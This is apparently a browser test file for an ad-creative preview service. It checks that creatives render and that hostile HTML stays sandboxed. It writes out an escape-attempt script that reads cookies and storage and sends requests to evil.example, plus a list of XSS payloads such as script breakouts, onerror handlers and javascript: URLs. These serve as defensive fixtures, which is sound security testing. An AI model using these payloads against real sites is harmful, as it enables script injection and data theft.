import { mkdirSync, writeFileSync } from 'node:fs';
import { expect } from 'chai';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { callTask, demo } from '../../agent-doors/world.ts';
import { startTestApp, type TestApp } from '../../support/app.ts';
import { startChromium } from '../../support/chromium.ts';
import { engines } from '../../support/databases.ts';

const OUTPUT = new URL('../../output/', import.meta.url);
const CDN = 'https://cdn.example';
const [engine] = engines;
if (engine === undefined) throw new Error('no engine to test on');

type Json = Readonly<Record<string, unknown>>;
/** What a page did while it was open. */
type Visit = { readonly page: Page; readonly asked: string[]; readonly said: string[] };

const picture = (name: string, more: Json = {}) => ({
  asset_type: 'image',
  url: `${CDN}/${name}.svg`,
  width: 300,
  height: 250,
  ...more,
});
const text = (content: string) => ({ asset_type: 'text', content });
const click = { asset_type: 'url', url: 'https://outdoor.example/', url_type: 'clickthrough' };
const svg = (color: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="250"><rect width="300" height="250" fill="${color}"/></svg>`;
const DIALOG = 'a dialog';
const GREEN = [10, 125, 60];
/** A page that has been drawn has asked for all that it was going to; scripts may not run in it. */
const settled = (page: Page) => page.screenshot({ clip: { x: 0, y: 0, width: 1, height: 1 } });

describe('previews in a browser', () => {
  let app: TestApp;
  let browser: Browser;
  let context: BrowserContext;
  let origin: string;
  before(async () => {
    app = await startTestApp(engine);
    origin = `http://127.0.0.1:${app.address?.port}`;
    browser = await startChromium();
    context = await browser.newContext({ viewport: { width: 700, height: 420 } });
    await context.addCookies([{ name: '_session', value: 'secret', url: origin }]);
    mkdirSync(OUTPUT, { recursive: true });
  });
  after(async () => {
    await browser?.close();
    await app.drop();
  });

  /** A preview for each set of macro values. */
  async function previewsOf(creative_manifest: Json, values: readonly Record<string, string>[]) {
    const inputs = values.map((macros, at) => ({ name: `${at}`, macros }));
    const args = { request_type: 'single', creative_manifest, inputs };
    const { body } = await callTask('mcp', origin, 'preview_creative', args, demo('browser'));
    expect(body.previews, JSON.stringify(body.errors)).length(values.length);
    return body.previews.map(({ renders }: { renders: readonly Json[] }) => renders[0]);
  }
  const previewOf = async (manifest: Json) => (await previewsOf(manifest, [{}]))[0];

  /** A page in which everything but the service itself and the declared host is noted and goes nowhere. */
  async function newVisit(): Promise<Visit> {
    const page = await context.newPage();
    const asked: string[] = [];
    const said: string[] = [];
    page.on('console', (message) => said.push(message.text()));
    page.on('dialog', (dialog) => void dialog.dismiss().then(() => said.push(DIALOG)));
    await page.route('**', (route) => {
      const url = route.request().url();
      if (url.startsWith(`${CDN}/`))
        return route.fulfill({ contentType: 'image/svg+xml', body: svg('#0a7d3c') });
      if (url.startsWith(`${origin}/`)) return route.continue();
      asked.push(url);
      return route.abort();
    });
    return { page, asked, said };
  }
  /** The service answers at the address that it knows itself by. */
  const open = ({ page }: Visit, address: string) =>
    page.goto(address.replace(app.baseUrl, origin), { waitUntil: 'load' });
  async function visit(address: string): Promise<Visit> {
    const seen = await newVisit();
    await open(seen, address);
    return seen;
  }

  /** Pixels of what the page shows, at some places. */
  async function pixels(page: Page, name: string, places: readonly [number, number][]): Promise<number[][]> {
    const shot = await page.screenshot();
    writeFileSync(new URL(`${name}.png`, OUTPUT), shot);
    const canvas = await context.newPage();
    // Code of the page goes out as text: here there is no document, and its types would say that there is one.
    const found: number[][] = await canvas.evaluate(`(async () => {
      const blob = await (await fetch('data:image/png;base64,${shot.toString('base64')}')).blob();
      const image = await createImageBitmap(blob);
      const drawn = new OffscreenCanvas(image.width, image.height).getContext('2d');
      drawn.drawImage(image, 0, 0);
      return ${JSON.stringify(places)}.map(([x, y]) => [...drawn.getImageData(x, y, 1, 1).data].slice(0, 3));
    })()`);
    await canvas.close();
    return found;
  }

  const kinds: [string, Json, [number, number], RegExp | null][] = [
    ['image', { image: picture('a', { alt_text: 'Boots' }), click }, [150, 125], null],
    [
      'native',
      { main: picture('m'), title: text('Spring & "sun"'), cta: text('Buy'), click },
      [300, 100],
      /Spring & "sun".*Buy/s,
    ],
    [
      'carousel',
      {
        cards: [1, 2].map((at) => ({ asset_type: 'card', media: picture(`c${at}`), headline: `Card ${at}` })),
      },
      [100, 60],
      /Card 1.*Card 2/s,
    ],
    [
      'html',
      { html: { asset_type: 'html', content: `<style>body{margin:0}</style><img src="${CDN}/h.svg">` } },
      [100, 100],
      null,
    ],
  ];
  for (const [name, assets, place, words] of kinds)
    it(`show a creative of the kind ${name}`, async () => {
      const { preview_url: url } = await previewOf({ format_kind: 'custom', assets });
      const { page, asked } = await visit(url);
      expect(await pixels(page, `preview-${name}`, [place])).deep.equal([GREEN]);
      if (words !== null) expect(await page.innerText('main')).match(words);
      expect(asked).deep.equal([]);
      await page.close();
    });

  const EVIL = 'https://evil.example';
  /** Tries everything that could leave the sandbox, and says what became of each. */
  const attempts = `
    const tries = {
      cookie: () => document.cookie,
      setCookie: () => { document.cookie = 'a=b' },
      storage: () => localStorage.length,
      session: () => sessionStorage.length,
      database: () => indexedDB.open('x').constructor.name,
      parent: () => parent.document.title,
      top: () => top.document.title,
      fetchSite: () => fetch('ORIGIN/api/me', { credentials: 'include' }).then((r) => r.status),
      fetchEvil: () => fetch('${EVIL}/fetch', { mode: 'no-cors' }).then(() => 'sent'),
      socket: () => new Promise((done, fail) => { const s = new WebSocket('wss://evil.example/'); s.onopen = () => done('open'); s.onerror = () => fail(new Error('refused')) }),
      image: () => new Promise((done, fail) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => fail(new Error('refused')); i.src = '${EVIL}/image' }),
      script: () => new Promise((done, fail) => { const s = document.createElement('script'); s.onload = () => done('ran'); s.onerror = () => fail(new Error('refused')); s.src = '${EVIL}/script'; document.head.append(s) }),
      module: () => import('${EVIL}/module'),
      worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('ran'); w.onerror = () => fail(new Error('refused')) }),
      peer: () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }).createDataChannel('x'),
      oldPeer: () => new webkitRTCPeerConnection(),
      peerAgain: () => { delete window.RTCPeerConnection; window.RTCPeerConnection.name },
      opened: () => { if (window.open('${EVIL}/open') === null) throw new Error('refused') },
      evaluated: () => eval('1'),
      form: () => { const f = document.createElement('form'); f.action = '${EVIL}/form'; document.body.append(f); f.submit(); throw new Error('see requests') },
      beacon: () => { navigator.sendBeacon('${EVIL}/beacon'); throw new Error('see requests') },
      frame: () => { const f = document.createElement('iframe'); f.src = '${EVIL}/frame'; document.body.append(f); throw new Error('see requests') },
      prefetch: () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${EVIL}/prefetch'; document.head.append(l); throw new Error('see requests') },
      topLocation: () => { top.location.href = '${EVIL}/top'; throw new Error('see requests') },
    };
    (async () => {
      for (const [name, attempt] of Object.entries(tries)) {
        let outcome;
        try { await attempt(); outcome = 'WORKED' } catch { outcome = 'refused' }
        console.log('TRIED ' + name + ' ' + outcome);
      }
      console.log('TRIED all done');
      location.href = '${EVIL}/self';
    })();`;
  const escaping = () => ({
    html: {
      asset_type: 'html',
      content: `<meta http-equiv="refresh" content="1;url=${'//evil.example'}/refresh"><script>${attempts.replaceAll('https://evil', 'https:\\/\\/evil').replaceAll('ORIGIN', origin.replace('//', '\\/\\/'))}</script>`,
    },
  });
  const outcomes = (said: readonly string[]) =>
    said.filter((line) => line.startsWith('TRIED ') && line.endsWith('WORKED'));
  const finished = async ({ page, said }: Visit): Promise<void> => {
    while (!said.includes('TRIED all done'))
      await page.waitForEvent('console', { timeout: 20_000, predicate: () => true }).catch(() => undefined);
    // Requests that were begun are seen by the time that a page has been drawn again.
    await settled(page);
  };

  for (const where of ['alone', 'in a frame of the site'] as const)
    it(`keep scripts of a creative from everything outside, ${where}`, async () => {
      const render = await previewOf({ format_kind: 'custom', assets: escaping() });
      let seen: Visit;
      if (where === 'alone') seen = await visit(render.preview_url);
      else {
        // The site itself shows the page; any address of it will do.
        seen = await visit(`${origin}/healthz`);
        const frames = [
          { src: render.preview_url.replace(app.baseUrl, origin) },
          { srcdoc: render.preview_html, sandbox: render.embedding.recommended_sandbox },
        ];
        await seen.page.evaluate(`{
          document.title = 'site';
          localStorage.setItem('secret', 'kept');
          for (const attributes of ${JSON.stringify(frames)}) {
            const frame = document.createElement('iframe');
            for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
            document.body.append(frame);
          }
        }`);
      }
      await finished(seen);
      expect(outcomes(seen.said)).deep.equal([]);
      expect(seen.said.filter((line) => line.startsWith('TRIED '))).length.above(20);
      expect(seen.asked).deep.equal([]);
      expect(new URL(seen.page.url()).origin).equal(origin);
      expect((await context.cookies()).map(({ name, value }) => `${name}=${value}`)).deep.equal([
        '_session=secret',
      ]);
      await seen.page.close();
    });

  describe('with hostile values', () => {
    const payloads = [
      `"><script>console.log('PWNED')</script>`,
      `'><img src=x onerror=console.log('PWNED')>`,
      `</script><script>console.log('PWNED')</script>`,
      `</style><script>console.log('PWNED')</script>`,
      `</title></textarea></noscript><script>console.log('PWNED')</script>`,
      `--><script>console.log('PWNED')</script>`,
      `";console.log('PWNED');"`,
      `';console.log('PWNED');'`,
      `\`;console.log("PWNED");\`\${console.log("PWNED")}`,
      '\\";console.log("PWNED")//',
      `');console.log('PWNED');('`,
      `javascript:console.log('PWNED')`,
      ` onload=console.log('PWNED') onclick=console.log('PWNED') x=`,
      `}</style><svg onload=console.log('PWNED')>`,
      `");background:url("https://evil.example/css`,
      `\u2028console.log('PWNED')\u2028`,
      `]]><script>console.log('PWNED')</script>`,
      `{CLICK_URL}{V}`,
    ];
    const template = (v: string): string =>
      `<!-- ${v} --><a id="u" href="${v}">a</a><a id="j" href="javascript:void('${v}')">b</a><p title="${v}" class='${v}' data-x=${v} onclick="void('${v}')" style="color:${v};background:url('${v}')">${v}</p>
       <img srcset="${v} 2x"><textarea>${v}</textarea><title>${v}</title><svg><style>${v}</style><text>${v}</text></svg><noscript>${v}</noscript><iframe srcdoc="${v}"></iframe>
       <script>var a = "${v}", b = '${v}', c = \`${v}\`; /* ${v} */ console.log('RAN ' + (a === b && b === c));</script>
       <script>${v}</script><script type="application/json">{"v": "${v}"}</script><style>p { content: "${v}" } ${v}</style>`;
    const all = (v: string): Json => ({
      html: { asset_type: 'html', content: template(v) },
      javascript: { asset_type: 'javascript', content: `console.log("SCRIPT " + "${v}".length)` },
      css: { asset_type: 'css', content: `b { content: "${v}"; background: url("${v}") }` },
    });
    const native = (v: string): Json => ({
      title: text(v),
      body_text: text(`x ${v}`),
      cta: text(v),
      main: picture('m', { alt_text: v }),
      click: { ...click, url: `https://outdoor.example/${v}` },
      tracker: { asset_type: 'pixel_tracker', event: 'impression', url: `https://t.example/${v}` },
    });

    const CLICK = `for (const one of document.querySelectorAll('a, p')) {
      one.addEventListener('click', (event) => one.matches('[target=_blank]') && event.preventDefault());
      one.click();
    }`;
    /**
     * Opens a page for each value in turn, and clicks whatever the value may have made clickable. Each visit has what
     * its own page said and asked for.
     */
    async function* provoked(manifest: Json, values: readonly string[]): AsyncGenerator<[string, Visit]> {
      const renders = await previewsOf(
        manifest,
        values.map((V) => ({ V })),
      );
      const seen = await newVisit();
      for (const [at, value] of values.entries()) {
        seen.said.length = 0;
        await open(seen, renders[at].preview_url);
        for (const frame of seen.page.frames()) await frame.evaluate(CLICK).catch(() => undefined);
        // Without a frame no script runs; what markup and styles ask for has been asked for by the time of `load`.
        if (seen.page.frames().length > 1) await settled(seen.page);
        yield [value, seen];
      }
      await seen.page.close();
    }
    /** The browser's own complaints repeat what they are about. */
    const ranIn = ({ said }: Visit) => said.filter((line) => line === 'PWNED' || line === DIALOG);

    it('run nothing in any place of markup, scripts and style sheets', async () => {
      for await (const [V, seen] of provoked({ format_kind: 'custom', assets: all('{V}') }, payloads)) {
        expect(ranIn(seen), V).deep.equal([]);
        expect(seen.said, V).include('RAN true').include(`SCRIPT ${V.length}`);
        expect(seen.asked, V).deep.equal([]);
      }
    });

    it('run nothing in what the service itself lays out', async () => {
      const added = 'main script, main iframe, main svg, main img[src="x"]';
      for await (const [V, seen] of provoked({ format_kind: 'custom', assets: native('{V}') }, payloads)) {
        expect(ranIn(seen), V).deep.equal([]);
        expect(seen.asked, V).deep.equal([]);
        expect(await seen.page.locator(added).count(), V).equal(0);
      }
    });

    it('would run if they were written as they are', async () => {
      const assets = { html: { asset_type: 'html', content: template(payloads[0] ?? '') } };
      for await (const [, seen] of provoked({ format_kind: 'custom', assets }, ['unused']))
        expect(ranIn(seen)).include('PWNED');
    });
  });
});
